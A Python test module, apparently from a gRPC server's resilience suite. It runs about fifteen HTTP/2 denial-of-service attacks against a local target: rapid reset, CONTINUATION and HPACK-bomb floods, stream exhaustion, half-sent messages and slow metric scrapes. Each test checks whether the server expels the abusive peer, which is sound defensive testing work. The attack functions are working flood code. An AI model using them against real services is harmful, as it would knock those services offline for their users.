"""Attacks of a peer on a server. Each is a function of a run.Server; see ATTACKS at the end.

An attack returns a few words on what it saw, and raises Harm when the server misbehaved. Each is
bounded in time: a flood lasts `target.seconds`, or until the server ends it where it must.
"""

import socket
import threading
import time

import wire
from hyperframe.frame import ContinuationFrame
from peer import ATTEND, HEALTH, Peer, grpc_message

SMALL = grpc_message(wire.small())


class Harm(Exception):
    """The server misbehaved."""


def answered(peer: Peer) -> bool:
    """Makes one good call; returns whether its answer came within 20 s."""
    peer.send(peer.headers(extra=peer.credential) + peer.data(SMALL))
    end = time.monotonic() + 20
    seen = b""
    while b"grpc-status" not in seen and time.monotonic() < end:
        data = peer.read(1)
        if data == b"":
            return False
        seen += data or b""
    return b"grpc-status" in seen


def until_closed(peer: Peer, seconds: float) -> bool:
    """Reads and drops data; returns whether the server closed the connection in time."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if peer.read(max(end - time.monotonic(), 0.01)) == b"":
            return True
    return False


def send_until_closed(peer: Peer, make, seconds: float) -> int:
    """Sends make() until the server closes or time is up, reading meanwhile; returns how often."""
    reader = threading.Thread(target=until_closed, args=(peer, seconds + 5), daemon=True)
    reader.start()
    end = time.monotonic() + seconds
    count = 0
    try:
        while time.monotonic() < end:
            peer.send(make())
            count += 1
    except OSError:
        pass  # closed
    peer.close()
    reader.join()
    return count


def flood_until_expelled(target, peer: Peer, make) -> int:
    """Sends make() until the server ends the connection, as it must; returns how often.

    The limit is an amount, not a time, so a busy machine takes longer."""
    before = target.metric("castor_connections_expelled_total")
    count = send_until_closed(peer, make, 60)
    if target.metric("castor_connections_expelled_total") <= before:
        raise Harm("the server went along with it")
    return count


def rapid_reset(target) -> str:
    """Opens streams and resets them at once (CVE-2023-44487)."""
    peer = Peer(target.port)
    count = flood_until_expelled(
        target, peer, lambda: b"".join(peer.headers() + peer.reset() for _ in range(50)))
    return f"closed after {50 * count} streams"


def rapid_reset_with_messages(target) -> str:
    """The same with whole requests, all of which reach the engine."""
    before = target.metric("castor_connections_expelled_total")
    peer = Peer(target.port, acknowledge=True)
    count = send_until_closed(
        peer, lambda: b"".join(peer.headers() + peer.data(SMALL) + peer.reset() for _ in range(20)),
        target.seconds)
    return (f"{20 * count} streams, expelled: "
            f"{target.metric('castor_connections_expelled_total') - before:.0f}")


def large_headers(target) -> str:
    """60 KB of headers on every stream; streams stay open and nothing is acknowledged."""
    peer = Peer(target.port)
    large = [(f"x-large-{i}", "v" * 1000) for i in range(60)]
    count = flood_until_expelled(target, peer, lambda: peer.headers(extra=large))
    return f"closed after {count} streams"


def continuation_flood(target) -> str:
    """A list of headers that never ends (CVE-2024-27316 and its kin)."""
    peer = Peer(target.port)
    peer.send(peer.headers(end_headers=False))
    block = peer.encoder.encode([(f"x-{i}", "v" * 1000) for i in range(15)], huffman=False)
    frame = ContinuationFrame(peer.stream, data=block[:16384]).serialize()
    count = send_until_closed(peer, lambda: frame, target.seconds)
    return f"{count} frames"


def hpack_bomb(target) -> str:
    """The same, but each byte is a whole header: memory grows a hundred times as fast."""
    peer = Peer(target.port)
    peer.send(peer.headers(end_headers=False))
    # Entries 15 to 61 of HPACK's static table are headers with no special meaning to gRPC.
    frame = ContinuationFrame(peer.stream, data=bytes([0x80 | 21]) * 16384).serialize()
    count = flood_until_expelled(target, peer, lambda: frame)
    return f"closed after {count} frames"


def hpack_bomb_behind_a_message(target) -> str:
    """The same in the middle of a message."""
    before = target.metric("castor_connections_expelled_total")
    peer = Peer(target.port)
    peer.send(peer.headers() + peer.data(grpc_message(bytes(1 << 20))[:1000], end=False))
    peer.send(peer.headers(end_headers=False))
    frame = ContinuationFrame(peer.stream, data=bytes([0x80 | 21]) * 16384).serialize()
    count = send_until_closed(peer, lambda: frame, target.seconds)
    return (f"{count} frames, expelled: "
            f"{target.metric('castor_connections_expelled_total') - before:.0f}")


def control_frames(target) -> str:
    """PING, SETTINGS, WINDOW_UPDATE and PRIORITY, thousands of each."""
    from hyperframe.frame import PingFrame, PriorityFrame, SettingsFrame, WindowUpdateFrame
    kinds = [PingFrame(0, b"12345678"), SettingsFrame(0, settings={4: 65535}),
             WindowUpdateFrame(0, window_increment=1), PriorityFrame(1, depends_on=0)]
    sent = []
    for kind in kinds:
        peer = Peer(target.port)
        frames = kind.serialize() * 200
        sent.append(str(200 * send_until_closed(peer, lambda: frames, target.seconds / 4)))
    return "frames: " + ", ".join(sent)


def watch_streams(target) -> str:
    """More health watches, which never end, than calls are allowed."""
    peers = [Peer(target.port, acknowledge=True) for _ in range(30)]
    try:
        for peer in peers:
            for _ in range(256):
                peer.send(peer.headers(path="/grpc.health.v1.Health/Watch") +
                          peer.data(grpc_message(b"")))
    except OSError:
        pass
    time.sleep(0.5)
    # From another address of this machine: one host gets at most three quarters of the room.
    beside = Peer(target.port, acknowledge=True, source="127.0.0.2")
    good = answered(beside)
    beside.close()
    for peer in peers:
        peer.close()
    if not good:
        raise Harm("nobody else is served")
    return "served beside them"


def streams_without_messages(target) -> str:
    """More streams than allowed, with headers only; nothing is acknowledged."""
    peers = [Peer(target.port) for _ in range(4)]
    try:
        for peer in peers:
            for _ in range(2000):
                peer.send(peer.headers())
    except OSError:
        pass
    time.sleep(0.5)
    held = target.metric('castor_inflight_calls{method="attend"}')
    for peer in peers:
        peer.close()
    limit = (2 * 256 + 1000) * len(peers)  # includes refused calls until their refusals are sent
    if held > limit:
        raise Harm(f"{held:.0f} calls at once, {limit} is the bound")
    return f"{held:.0f} of 8000 streams held"


def health_streams(target) -> str:
    """The same to the health service, which every caller may reach."""
    peer = Peer(target.port)
    try:
        for _ in range(5000):
            peer.send(peer.headers(path=HEALTH))
    except OSError:
        pass
    time.sleep(0.5)
    peer.close()
    return "served on"


def half_messages(target) -> str:
    """Messages that never end; as much of each is sent as the initial window allows."""
    peers = [Peer(target.port, acknowledge=True) for _ in range(20)]
    body = grpc_message(bytes(1 << 20))[:60_000]
    for peer in peers:
        try:
            peer.send(peer.headers() + peer.data(body, end=False))
        except OSError:
            pass
    time.sleep(min(target.seconds, 2))
    for peer in peers:
        peer.close()
    return f"{len(peers)} connections"


def unread_answers(target) -> str:
    """Requests of 24 KB with answers of 64 MiB, which nobody reads."""
    peers = [Peer(target.port, acknowledge=True) for _ in range(48)]
    for peer in peers:
        peer.send(peer.headers() + peer.data(grpc_message(wire.amplifier())))
    time.sleep(min(target.seconds, 3))
    most = target.metric("castor_inflight_bytes")
    limit = target.metric('castor_queue_limit{unit="bytes"}')
    if most > limit:
        raise Harm(f"{most:.0f} bytes in flight, {limit:.0f} is the budget")
    # The calls have no deadline of their own; the server's ends those that are stuck.
    end = time.monotonic() + target.max_deadline + 20
    while target.metric("castor_inflight_bytes") > 0:
        if time.monotonic() > end:
            raise Harm("answers are still held after the server's longest deadline")
        time.sleep(0.1)
    for peer in peers:
        peer.close()
    return f"{most / 2**20:.0f} MiB held at most, all given back in time"


def idle_connections(target) -> str:
    """More connections than there is room for; they send nothing."""
    peers = []
    for _ in range(300):
        try:
            peers.append(socket.create_connection(("127.0.0.1", target.port), timeout=5))
        except OSError:
            break
    time.sleep(0.5)
    for peer in peers:
        peer.close()
    return f"{len(peers)} connected"


def broken_frames(target) -> str:
    """Bytes that are not HTTP/2, and incomplete frames."""
    for garbage in (b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
                    bytes(range(256)) * 64, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\xff" * 4000):
        connection = socket.create_connection(("127.0.0.1", target.port), timeout=5)
        try:
            connection.sendall(garbage)
        except OSError:
            pass
        connection.close()
    return "4 kinds"


def silent_scrapers(target) -> str:
    """200 half requests to the metrics port."""
    peers = []
    for _ in range(200):
        peer = socket.create_connection(("127.0.0.1", target.metrics_port), timeout=5)
        peer.sendall(b"GET /metrics HTTP/1.1\r\nHost:")
        peers.append(peer)
    begin = time.monotonic()
    target.metric("castor_ready")
    took = time.monotonic() - begin
    for peer in peers:
        peer.close()
    if took > 2:
        raise Harm(f"a scrape took {took:.1f} s beside them")
    return f"a scrape beside them took {took * 1000:.0f} ms"


def churn(target) -> str:
    """Connections opened and closed as fast as possible."""
    end = time.monotonic() + min(target.seconds, 5)
    count = 0
    while time.monotonic() < end:
        try:
            Peer(target.port).close()
        except OSError:
            pass
        count += 1
    return f"{count} connections"


ATTACKS = [rapid_reset, rapid_reset_with_messages, large_headers, continuation_flood,
           hpack_bomb, control_frames, watch_streams,
           streams_without_messages, health_streams, half_messages, unread_answers,
           idle_connections, broken_frames, silent_scrapers, churn]

# The server withstands this one only with memory to spare: server/SECURITY.md, "Header floods".
HEAVY = [hpack_bomb_behind_a_message]

# What these take of memory until they are closed is as much as a processor parses in that time.
HEADER_FLOODS = [continuation_flood, hpack_bomb] + HEAVY
